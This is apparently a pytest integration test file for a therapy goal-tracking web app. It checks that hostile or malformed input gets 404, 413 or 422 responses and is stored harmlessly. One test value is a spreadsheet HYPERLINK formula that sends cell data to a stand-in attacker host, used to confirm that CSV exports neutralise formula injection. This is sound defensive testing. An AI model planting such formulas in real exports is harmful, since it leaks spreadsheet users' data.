"""Careless or hostile input answers 404 or 422 (never 500) and is stored harmlessly (issue 10).

SQLite only: the faults here are in parsing and validation, before any SQL runs; the property test
over every write route (``test_write_routes_fuzz.py``) and the schema fuzz run cover both shapes.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from html import escape

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert
from tests.integration.test_web_auth import login
from tests.support.cast import PASSWORD, Cast, make_cast

from goalwise.services.context import Context
from goalwise.services.sharing import privacy
from goalwise.storage.tables import journal_entries

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def cast_s(sqlite_ctx: Context) -> Cast:
    return make_cast(sqlite_ctx)


@pytest.fixture
def web(sqlite_ctx: Context, cast_s: Cast) -> Iterator[TestClient]:
    from goalwise.web.app import create_app

    with TestClient(create_app(sqlite_ctx.settings, sqlite_ctx.db)) as client:
        yield client


def test_a_formula_user_agent_is_text_in_the_audit_csv(web: TestClient, cast_s: Cast) -> None:
    web.get("/login")
    web.post(
        "/login",
        data={
            "email": "t1@example.org",
            "password": "wrong",
            "pre_token": web.cookies.get("goalwise_pre", ""),
        },
        headers={"User-Agent": FORMULA},
        follow_redirects=False,
    )
    web.cookies.clear()
    assert login(web, cast_s.admin.email, PASSWORD) == 303
    body = web.get("/admin/audit.csv").text
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_journal_cells_that_look_like_formulas_are_text_in_the_export(
    sqlite_ctx: Context, cast_s: Cast
) -> None:
    now = datetime.now(UTC)
    for body in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", "-3"):
        with sqlite_ctx.db.write() as conn:
            conn.execute(
                insert(journal_entries).values(
                    client_id=cast_s.client_a.client_id,
                    at=now,
                    local_on=date.today(),
                    private=True,
                    created_at=now,
                    body_enc=sqlite_ctx.keys.encrypt(body, context=b"journal_entries.body_enc"),
                )
            )
    data = privacy.export_client(sqlite_ctx, cast_s.client_a.actor, cast_s.client_a.client_id)  # type: ignore[arg-type]
    text = zipfile.ZipFile(io.BytesIO(data)).read("journal_entries.csv").decode()
    bodies = [row["body"] for row in csv.DictReader(io.StringIO(text))]
    assert bodies == ["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "-3"]


BIG = b'{"mood": 5, "note": "' + b"x" * 1_100_000 + b'"}'


def test_a_body_over_the_limit_is_refused_before_parsing(web: TestClient) -> None:
    response = web.post(
        "/api/v1/clients/1/checkins", content=BIG, headers={"content-type": "application/json"}
    )
    assert response.status_code == 413
    body = response.json()
    assert body["ok"] is False and body["status"] == 413
    assert body["problems"][0]["field"] == "body"
    assert "1048576 bytes" in body["error"]
    assert response.headers["x-content-type-options"] == "nosniff"


def test_a_chunked_body_over_the_limit_is_refused_as_it_streams(web: TestClient) -> None:
    sent: list[int] = []

    def chunks() -> Iterator[bytes]:
        for _ in range(40):
            sent.append(1)
            yield b" " * 65_536

    response = web.post(
        "/api/v1/clients/1/checkins", content=chunks(), headers={"content-type": "application/json"}
    )
    assert "content-length" not in response.request.headers
    assert response.status_code == 413
    assert response.json()["status"] == 413


def test_a_large_form_is_refused_on_a_page(web: TestClient) -> None:
    response = web.post("/login", data={"email": "a@example.org", "password": "x" * 1_100_000})
    assert response.status_code == 413
    assert "text/html" in response.headers["content-type"]


def test_a_body_under_the_limit_reaches_the_route(web: TestClient) -> None:
    small = b'{"mood": 5, "note": "' + b"x" * 900_000 + b'"}'
    response = web.post(
        "/api/v1/clients/1/checkins", content=small, headers={"content-type": "application/json"}
    )
    assert response.status_code == 401


def test_the_limit_is_a_setting(sqlite_ctx: Context) -> None:
    from goalwise.web.app import create_app

    settings = sqlite_ctx.settings.model_copy(update={"max_body_bytes": 2048})
    with TestClient(create_app(settings, sqlite_ctx.db)) as client:
        response = client.post("/api/v1/clients/1/checkins", content=b"{" + b" " * 3000 + b"}")
    assert response.status_code == 413
    assert "2048 bytes" in response.json()["error"]


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/api/v1/clients/9223372036854775808"),
        ("GET", "/api/v1/clients/18446744073709551616/observations"),
        ("GET", "/api/v1/clients/-9223372036854775809/journal"),
        ("POST", "/api/v1/alerts/9223372036854775808/acknowledge"),
        ("DELETE", "/api/v1/shares/99999999999999999999999999"),
        ("GET", "/clients/9223372036854775808"),
    ],
)
def test_ids_out_of_the_64_bit_range_are_not_found(
    web: TestClient, cast_s: Cast, method: str, path: str
) -> None:
    response = web.request(method, path, headers=cast_s.therapist.headers, json={"note": "called"})
    assert response.status_code == 404
    if path.startswith("/api/"):
        assert response.json() == {
            "ok": False,
            "error": "There is no record with this id.",
            "problems": [],
            "status": 404,
        }


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/clients/9223372036854775807",
        "/api/v1/reviews/9223372036854775807",
        "/api/v1/reviews/4611686018427387905",
        "/api/v1/goals/9223372036854775807",
        "/api/v1/goals/9223372036854775807/plan-items",
        "/api/v1/goals/9223372036854775807/gas",
        "/api/v1/clients/9223372036854775807/goals",
    ],
)
def test_the_largest_id_is_simply_not_found(web: TestClient, cast_s: Cast, path: str) -> None:
    response = web.get(path, headers=cast_s.therapist.headers)
    assert response.status_code == 404, response.text


@pytest.mark.parametrize(
    "query", ["since=garbage", "since=2024-13-45", "client=99999999999999999999999", "since=%00"]
)
def test_admin_filters_that_are_not_dates_or_numbers_are_422(
    web: TestClient, cast_s: Cast, query: str
) -> None:
    assert login(web, cast_s.admin.email, PASSWORD) == 303
    response = web.get(f"/admin?{query}")
    assert response.status_code == 422
    assert "text/html" in response.headers["content-type"]


def test_api_query_numbers_out_of_range_are_422_naming_the_parameter(web: TestClient, cast_s: Cast) -> None:
    response = web.get("/api/v1/admin/audit?client_id=99999999999999999999", headers=cast_s.admin.headers)
    assert response.status_code == 422
    body = response.json()
    assert body["problems"][0]["field"] == "client_id"
    assert set(body) == {"ok", "error", "problems", "status"}


@pytest.mark.parametrize("field", ["body"])
def test_a_lone_surrogate_in_json_text_is_422_naming_the_field(
    web: TestClient, cast_s: Cast, field: str
) -> None:
    cid = cast_s.client_a.client_id
    response = web.post(
        f"/api/v1/clients/{cid}/journal",
        content=b'{"body": "fine \\ud800 text"}',
        headers={**cast_s.client_a.headers, "content-type": "application/json"},
    )
    assert response.status_code == 422
    assert response.json()["problems"][0]["field"] == field
    assert "U+D800" in response.json()["error"]


def test_a_5000_digit_answer_on_the_questionnaire_form_is_422(web: TestClient, cast_s: Cast) -> None:
    assert login(web, cast_s.client_a.email, PASSWORD) == 303
    page = web.get(f"/clients/{cast_s.client_a.client_id}/assess/phq9").text
    csrf = page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    form = {f"item{i}": "0" for i in range(1, 10)} | {"item3": "9" * 5000, "csrf_token": csrf}
    response = web.post(f"/clients/{cast_s.client_a.client_id}/assess/phq9", data=form)
    assert response.status_code == 422
    assert "item 3" in response.text.lower() or "answers[3]" in response.text


@pytest.mark.parametrize(
    "zone", ["localtime", "posixrules", "Factory", "posix/Europe/London", "Mars/Olympus"]
)
def test_a_client_time_zone_must_be_an_iana_place(web: TestClient, cast_s: Cast, zone: str) -> None:
    response = web.post(
        "/api/v1/clients",
        json={"name": "New", "email": "new@example.org", "timezone": zone},
        headers=cast_s.therapist.headers,
    )
    assert response.status_code == 422
    assert [p["field"] for p in response.json()["problems"]] == ["timezone"]


@pytest.mark.parametrize(("name", "ok"), [("Ro\x00bin", False), ("Esc\x1b[2J", False), ("Zoë Ng", True)])
def test_names_refuse_control_characters(web: TestClient, cast_s: Cast, name: str, ok: bool) -> None:
    response = web.post(
        "/api/v1/clients",
        json={"name": name, "email": "new@example.org", "timezone": "Europe/London"},
        headers=cast_s.therapist.headers,
    )
    assert response.status_code == (201 if ok else 422)
    if not ok:
        assert [p["field"] for p in response.json()["problems"]] == ["name"]
        assert name not in response.text


@pytest.mark.parametrize("char", ["\u202e", "\u2066"])
def test_titles_names_labels_and_emails_refuse_bidi_overrides(
    web: TestClient, cast_s: Cast, char: str
) -> None:
    from tests.integration.test_authorization_matrix import FULL_VALID_DRAFT

    cid = cast_s.client_a.client_id
    draft = {**FULL_VALID_DRAFT, "title": f"Walk daily{char}live"}
    goal = web.post(f"/api/v1/clients/{cid}/goals", json={"draft": draft}, headers=cast_s.therapist.headers)
    assert goal.status_code == 422
    assert "title" in [p["field"] for p in goal.json()["problems"]]
    for body, field in (
        ({"name": f"Ro{char}bin", "email": "new@example.org", "timezone": "Europe/London"}, "name"),
        ({"name": "Robin", "email": f"new{char}@example.org", "timezone": "Europe/London"}, "email"),
    ):
        client = web.post("/api/v1/clients", json=body, headers=cast_s.therapist.headers)
        assert client.status_code == 422
        assert field in [p["field"] for p in client.json()["problems"]]
    phase = web.post(
        f"/api/v1/clients/{cid}/phases",
        json={"name": f"CBT{char}", "start_on": date.today().isoformat()},
        headers=cast_s.therapist.headers,
    )
    assert phase.status_code == 422
    assert [p["field"] for p in phase.json()["problems"]] == ["name"]


def test_free_text_keeps_line_breaks_and_refuses_nul(web: TestClient, cast_s: Cast) -> None:
    url = f"/api/v1/clients/{cast_s.client_a.client_id}/journal"
    kept = web.post(url, json={"body": "Line one\nline two\tend"}, headers=cast_s.client_a.headers)
    assert kept.status_code == 201
    refused = web.post(url, json={"body": "a\x00b"}, headers=cast_s.client_a.headers)
    assert refused.status_code == 422
    assert refused.json()["problems"][0]["field"] == "body"


EDGE_INSTANTS = [
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00",
    "1899-12-31T12:00:00",
]
MEASURED = {
    "observations": {"metric": "mood", "value": 5},
    "checkins": {"mood": 5},
    "episodes": {"situation": "queue", "intensity": 6},
    "abc": {"antecedent": "a", "behaviour": "b", "consequence": "c"},
    "journal": {"body": "a day"},
    "assessments": {"instrument": "gad7", "answers": [0, 1, 0, 1, 0, 1, 0]},
}


@pytest.mark.parametrize("at", EDGE_INSTANTS)
@pytest.mark.parametrize("resource", sorted(MEASURED))
def test_measurements_at_the_calendar_edges_are_refused_naming_at(
    web: TestClient, cast_s: Cast, resource: str, at: str
) -> None:
    cid = cast_s.client_a.client_id
    body = {**MEASURED[resource], "at": at}
    response = web.post(f"/api/v1/clients/{cid}/{resource}", json=body, headers=cast_s.client_a.headers)
    assert response.status_code == 422
    assert [p["field"] for p in response.json()["problems"]] == ["at"]
    assert web.get(f"/clients/{cid}", headers=cast_s.therapist.headers).status_code == 200


def test_a_measurement_from_1900_is_kept_and_shown(web: TestClient, cast_s: Cast) -> None:
    cid = cast_s.client_a.client_id
    body = {"metric": "mood", "value": 5, "at": "1900-01-01T12:00:00"}
    assert (
        web.post(
            f"/api/v1/clients/{cid}/observations", json=body, headers=cast_s.client_a.headers
        ).status_code
        == 201
    )
    assert web.get(f"/clients/{cid}", headers=cast_s.therapist.headers).status_code == 200
    assert (
        web.get(f"/api/v1/clients/{cid}/charts/mood.svg", headers=cast_s.therapist.headers).status_code == 200
    )


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("sessions", {"held_on": "0001-01-01"}, "held_on"),
        ("sessions", {"held_on": "9999-12-31"}, "held_on"),
        ("phases", {"name": "CBT", "start_on": "9999-12-31"}, "start_on"),
        ("phases", {"name": "CBT", "start_on": "1899-12-31"}, "start_on"),
        ("schedules/phq9", {"every_days": 14, "start_on": "0001-01-01"}, "start_on"),
    ],
)
def test_planned_days_outside_1900_to_a_hundred_years_ahead_are_refused(
    web: TestClient, cast_s: Cast, path: str, body: dict[str, object], field: str
) -> None:
    cid = cast_s.client_a.client_id
    method = "PUT" if path.startswith("schedules") else "POST"
    response = web.request(
        method, f"/api/v1/clients/{cid}/{path}", json=body, headers=cast_s.therapist.headers
    )
    assert response.status_code == 422
    assert field in [p["field"] for p in response.json()["problems"]]
    assert web.get(f"/clients/{cid}", headers=cast_s.therapist.headers).status_code == 200


def test_a_session_planned_fifty_years_ahead_is_kept(web: TestClient, cast_s: Cast) -> None:
    cid = cast_s.client_a.client_id
    ahead = date.today().replace(year=date.today().year + 50, day=1).isoformat()
    response = web.post(
        f"/api/v1/clients/{cid}/sessions", json={"held_on": ahead}, headers=cast_s.therapist.headers
    )
    assert response.status_code == 201


@pytest.mark.parametrize("hours", [99999, 1e300, 24.5, -1])
def test_sleep_hours_run_from_0_to_24(web: TestClient, cast_s: Cast, hours: float) -> None:
    cid = cast_s.client_a.client_id
    response = web.post(
        f"/api/v1/clients/{cid}/checkins", json={"sleep_hours": hours}, headers=cast_s.client_a.headers
    )
    assert response.status_code == 422
    assert [p["field"] for p in response.json()["problems"]] == ["sleep_hours"]


@pytest.mark.parametrize(
    ("resource", "body"), [("episodes", {"situation": "queue"}), ("abc", MEASURED["abc"])]
)
@pytest.mark.parametrize("minutes", [1e308, 10081, 2**63])
def test_durations_run_up_to_a_week(
    web: TestClient, cast_s: Cast, resource: str, body: dict[str, object], minutes: float
) -> None:
    cid = cast_s.client_a.client_id
    response = web.post(
        f"/api/v1/clients/{cid}/{resource}",
        json={**body, "duration_minutes": minutes},
        headers=cast_s.client_a.headers,
    )
    assert response.status_code == 422
    assert [p["field"] for p in response.json()["problems"]] == ["duration_minutes"]


@pytest.mark.parametrize("hours", [25, 1000])
def test_sleep_ends_at_24_hours_when_its_row_was_stored_without_a_scale(
    web: TestClient, cast_s: Cast, sqlite_ctx: Context, hours: float
) -> None:
    from goalwise.storage.tables import metrics

    cid = cast_s.client_a.client_id
    with sqlite_ctx.db.write() as conn:  # as the demo data and older versions stored it
        conn.execute(
            insert(metrics).values(
                client_id=cid, key="sleep_hours", label="Sleep", kind="duration", unit="hours",
                period="day", scale_min=None, scale_max=None, higher_is_better=True,
                created_at=datetime.now(UTC),
            )
        )  # fmt: skip
    url = f"/api/v1/clients/{cid}/checkins"
    response = web.post(url, json={"sleep_hours": hours}, headers=cast_s.client_a.headers)
    assert response.status_code == 422
    assert [p["field"] for p in response.json()["problems"]] == ["sleep_hours"]
    assert web.post(url, json={"sleep_hours": 24}, headers=cast_s.client_a.headers).status_code == 201


@pytest.mark.parametrize(("part", "value"), [("target", 1e308), ("baseline", 1e308), ("target", 2e9)])
def test_a_goal_target_or_baseline_past_a_billion_is_refused(
    web: TestClient, cast_s: Cast, part: str, value: float
) -> None:
    from tests.integration.test_authorization_matrix import FULL_VALID_DRAFT

    cid = cast_s.client_a.client_id
    draft = {
        **FULL_VALID_DRAFT,
        "metric": {"kind": "count", "unit": "days", "period": "week"},
        "direction": "increase",
        "baseline": {"value": 1, "source": "entered"},
        "target": {"value": 3, "comparator": ">="},
    }
    draft[part] = {**draft[part], "value": value}  # type: ignore[dict-item]
    made = web.post(f"/api/v1/clients/{cid}/goals", json={"draft": draft}, headers=cast_s.therapist.headers)
    assert made.status_code == 422, made.text
    assert f"{part}.value" in [p["field"] for p in made.json()["problems"]]
    assert "0000000000" not in made.text


def test_a_count_beyond_a_billion_is_refused() -> None:
    from goalwise.core.measurement.observation import validate_value

    assert [p.code for p in validate_value("count", 10**12)] == ["observation-too-large"]
    assert validate_value("count", 10**9) == []


def test_digits_in_free_text_query_parameters_are_just_text(web: TestClient, cast_s: Cast) -> None:
    cid = cast_s.client_a.client_id
    response = web.get(f"/api/v1/clients/{cid}/needs?text={'0' * 5000}", headers=cast_s.therapist.headers)
    assert response.status_code == 200


@pytest.mark.parametrize("title", ["Spend under $20$ a week", "$$", r"Save \$5 $x^"])
def test_a_goal_title_with_dollar_signs_shows_on_the_page_and_chart(
    web: TestClient, cast_s: Cast, title: str
) -> None:
    from tests.integration.test_authorization_matrix import FULL_VALID_DRAFT

    cid = cast_s.client_a.client_id
    draft = {
        **FULL_VALID_DRAFT,
        "title": title,
        "metric": {"kind": "count", "unit": "days", "period": "week"},
    }
    made = web.post(
        f"/api/v1/clients/{cid}/goals",
        json={"draft": draft, "activate": True},
        headers=cast_s.therapist.headers,
    )
    assert made.status_code == 201, made.text
    key = made.json()["metric_key"]
    logged = web.post(
        f"/api/v1/clients/{cid}/observations",
        json={"metric": key, "value": 2},
        headers=cast_s.client_a.headers,
    )
    assert logged.status_code == 201
    assert web.get(f"/clients/{cid}", headers=cast_s.therapist.headers).status_code == 200
    chart = web.get(f"/api/v1/clients/{cid}/charts/{key}.svg", headers=cast_s.therapist.headers)
    assert chart.status_code == 200
    # The chart draws the goal's title as text (matplotlib read "$...$" as mathematics before).
    assert escape(title, quote=False) in chart.text.split("</desc>", 1)[1]
